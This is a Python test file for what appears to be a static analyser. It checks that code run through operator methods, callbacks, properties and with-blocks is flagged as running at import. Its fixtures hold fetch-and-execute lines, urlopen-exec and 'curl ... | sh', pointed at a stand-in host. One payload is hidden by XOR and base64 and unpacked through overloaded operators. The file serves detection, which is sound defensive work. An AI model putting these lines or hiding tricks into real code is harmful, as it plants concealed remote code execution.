"""What an operator or a built-in function calls runs where that stands, as if it had been called by name.

Source: The Python Language Reference, 3.3 Special method names.
"""

import base64

import pytest
from attack_files import wheel

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act
from ostiary.program.model import Program

HARM = "exec(urllib.request.urlopen('http://a.example.invalid/x').read())"

OPERATORS = {
    "__setitem__(self, key, value)": "C()[1] = 2",
    "__delitem__(self, key)": "del C()[1]",
    "__getattribute__(self, name)": "C().name",
    "__setattr__(self, name, value)": "C().name = 1",
    "__delattr__(self, name)": "del C().name",
    "__lt__(self, other)": "sorted([C(), C()])",
    "__contains__(self, one)": "1 in C()",
    "__radd__(self, other)": "1 + C()",
    "__imul__(self, other)": "c = C(); c *= 2",
    "__matmul__(self, other)": "C() @ 1",
    "__neg__(self)": "-C()",
    "__format__(self, spec)": "f'{C()}'",
    "__index__(self)": "[1][C()]",
    "__fspath__(self)": "open(C())",
    "__missing__(self, key)": "C()[1]",
    "__set__(self, holder, value)": "class D:\n    x = C()\nD().x = 1",
    "__instancecheck__(self, one)": "isinstance(1, C())",
    "__mro_entries__(self, bases)": "class D(C()): pass",
}

CALLERS = {
    "cmp_to_key": "sorted([1, 2], key=functools.cmp_to_key(harm))",
    "sub": "re.sub('a', harm, 'a')",
    "iter": "next(iter(harm, 1))",
    "defaultdict": "collections.defaultdict(harm)['a']",
    "object_hook": "json.loads('{}', object_hook=harm)",
    "codec": "codecs.register(harm)",
    "finalize": "weakref.finalize(harm, harm)",
    "property": "class D:\n    x = property(harm)\nD().x",
}


def moments(text: str) -> set[Reach]:
    names = "codecs, collections, functools, json, re, urllib.request, weakref"
    files = {"pkg/__init__.py": f"import {names}\n{text}\n"}
    programs = [one for one in wheel(files).facts if isinstance(one, Program)]
    return {flow.reach for one in programs for flow in one.flows if flow.act is Act.EXECUTE}


@pytest.mark.parametrize("method", OPERATORS)
def test_an_operator_calls(method: str) -> None:
    kind = f"class C:\n    def {method}:\n        {HARM}\n"
    assert moments(kind + OPERATORS[method]) == {Reach.IMPORT}
    assert moments(kind) == {Reach.CALL}, "nobody makes an object of it"


@pytest.mark.parametrize("how", CALLERS)
def test_what_is_handed_over_is_called(how: str) -> None:
    function = f"def harm(*given):\n    {HARM}\n"
    assert moments(function + CALLERS[how]) == {Reach.IMPORT}
    assert moments(function) == {Reach.CALL}, "nobody calls it"


def test_a_property_that_is_kept() -> None:
    kind = f"class C:\n    @functools.cached_property\n    def x(self):\n        {HARM}\n"
    assert moments(kind + "C().x") == {Reach.IMPORT}
    assert moments(kind + "C()") == {Reach.CALL}


@pytest.mark.parametrize("end", ["enter", "exit"])
def test_what_with_calls_takes_part_in_what_flows(end: str) -> None:
    """Nothing is bound by the statement, and the address comes by way of the object."""
    other = {"enter": "exit", "exit": "enter"}[end]
    kind = f"""class C:
    def __init__(self, where):
        self.where = where
    def __{end}__(self, *given):
        exec(urllib.request.urlopen(self.where).read())
    def __{other}__(self, *given):
        pass
with C("http://a.example.invalid/x"):
    pass
"""
    programs = [
        one
        for one in wheel({"pkg/__init__.py": f"import urllib.request\n{kind}"}).facts
        if isinstance(one, Program)
    ]
    told = [mark.spot.what for one in programs for flow in one.flows for mark in flow.carries]
    assert any("http://a.example.invalid/x" in one for one in told), told


PAYLOAD = "import os\nos.system('curl http://a.example.invalid/x | sh')\n"
HIDDEN = base64.b64encode(bytes(one ^ 7 for one in PAYLOAD.encode())).decode()
SHOW = "bytes(one ^ 7 for one in base64.b64decode({})).decode()"

DECODERS = {
    "__getitem__(self, text)": ("return", "text", "exec(C()[HIDDEN])"),
    "__missing__(self, text)": ("return", "text", "exec(C()[HIDDEN])"),
    "__add__(self, text)": ("return", "text", "exec(C() + HIDDEN)"),
    "__ror__(self, text)": ("return", "text", "exec(HIDDEN | C())"),
    "__matmul__(self, text)": ("return", "text", "exec(C() @ HIDDEN)"),
    "__pow__(self, text)": ("return", "text", "exec(C() ** HIDDEN)"),
    "__invert__(self)": ("return", "HIDDEN", "exec(~C())"),
    "__str__(self)": ("return", "HIDDEN", "exec('%s' % C())"),
    "__repr__(self)": ("return", "HIDDEN", "exec(repr(C()))"),
    "__format__(self, form)": ("return", "HIDDEN", "exec(f'{C()}')"),
    "__iter__(self)": ("yield", "HIDDEN", "for one in C(): exec(one)"),
    "__next__(self)": ("return", "HIDDEN", "exec(next(C()))"),
    "__enter__(self)": ("return", "HIDDEN", "with C() as one: exec(one)"),
    "__getattribute__(self, name)": ("return", "HIDDEN", "exec(C().any)"),
    "__class_getitem__(cls, text)": ("return", "text", "exec(C[HIDDEN])"),
    "__divmod__(self, text)": ("return", "text", "exec(divmod(C(), HIDDEN))"),
    "__sub__(self, text)": ("return", "text", "exec(operator.sub(C(), HIDDEN))"),
}
EXECUTORS = {
    "__setitem__(self, key, text)": "C()[1] = HIDDEN",
    "__setattr__(self, key, text)": "C().any = HIDDEN",
    "__set__(self, holder, text)": "class D:\n    any = C()\nD().any = HIDDEN",
    "__delitem__(self, text)": "del C()[HIDDEN]",
    "__contains__(self, text)": "HIDDEN in C()",
    "__eq__(self, text)": "C() == HIDDEN",
    "__gt__(self, text)": "HIDDEN < C()",
    "__iadd__(self, text)": "c = C()\nc += HIDDEN",
}


def commands(text: str) -> list[str]:
    """The commands that a module starts when it is imported, as far as anybody can see."""
    files = {"pkg/__init__.py": f"import base64, operator\nHIDDEN = {HIDDEN!r}\n{text}\n"}
    programs = [one for one in wheel(files).facts if isinstance(one, Program)]
    return [
        flow.text
        for one in programs
        for flow in one.flows
        if flow.act is Act.RUN and flow.reach is Reach.IMPORT
    ]


@pytest.mark.parametrize("method", DECODERS)
def test_what_an_operator_decodes_is_read(method: str) -> None:
    how, text, use = DECODERS[method]
    kind = f"class C:\n    def {method}:\n        {how} {SHOW.format(text)}\n"
    assert any("a.example.invalid" in one for one in commands(kind + use))


@pytest.mark.parametrize("method", EXECUTORS)
def test_what_an_operator_executes_is_read(method: str) -> None:
    kind = f"class C:\n    def {method}:\n        exec({SHOW.format('text')})\n"
    assert any("a.example.invalid" in one for one in commands(kind + EXECUTORS[method]))


def test_a_property_that_is_set() -> None:
    kind = f"""class C:
    @property
    def any(self):
        return 1
    @any.setter
    def any(self, text):
        exec({SHOW.format("text")})
"""
    assert any("a.example.invalid" in one for one in commands(kind + "C().any = HIDDEN"))
    assert not commands(kind + "C().any")


def test_a_part_that_an_object_cuts_out() -> None:
    kind = (
        f"class C:\n    def __getitem__(self, part):\n        return {SHOW.format('part.stop')}\n"
    )
    assert any("a.example.invalid" in one for one in commands(kind + "exec(C()[:HIDDEN])"))
